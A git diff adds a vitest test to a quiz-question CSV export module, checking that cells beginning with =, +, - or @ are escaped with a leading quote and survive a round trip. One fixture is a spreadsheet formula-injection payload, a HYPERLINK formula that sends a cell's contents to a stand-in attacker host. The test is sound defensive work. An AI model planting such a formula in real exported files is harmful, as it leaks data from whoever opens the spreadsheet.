@@ -1,4 +1,5 @@
 import fs from 'node:fs';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { parseAiken } from './aiken.js';
 import { parseTemplateCsv, parseTemplateXlsx, TEMPLATE_COLUMNS, writeTemplateCsv, writeTemplateXlsx } from './csv-template.js';
@@ -123,6 +124,20 @@ describe('round trips: export, import, the same content in both languages', () =
     const csv = writeTemplateCsv(ROUND_TRIP);
     expect(detectFormat(Buffer.from(csv))).toBe('csv');
     expect(questionsOf(parseTemplateCsv(csv))).toEqual(ROUND_TRIP);
+  });
+
+  it('CSV with cells a spreadsheet would run as formulas: written with a leading quote, read back as they were', () => {
+    const base = EXAMPLE_QUESTIONS[0]!;
+    const tricky = ['=HYPERLINK("http://evil.example/?leak="&C2,"x")', '+1+2', '-5', '@SUM(A1)', '-1 is the title', "'=quoted already", "it's fine"];
+    const question: FormatQuestion = {
+      ...base,
+      draft: { ...base.draft, texts: { en: { ...base.draft.texts.en!, data: tricky[0]!, hint: tricky[1]!, explanation: tricky[2]!, instructions: tricky[3]!, title: tricky[4]!, answerTitle: tricky[5]!, options: base.draft.texts.en!.options?.map((o, i) => (i === 0 ? { ...o, answerData: tricky[6]! } : o)) } } },
+    };
+    const csv = writeTemplateCsv([question]);
+    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells).toContain("''=quoted already");
+    expect(questionsOf(parseTemplateCsv(csv))).toEqual([question]);
   });
 
   it('XLSX', async () => {
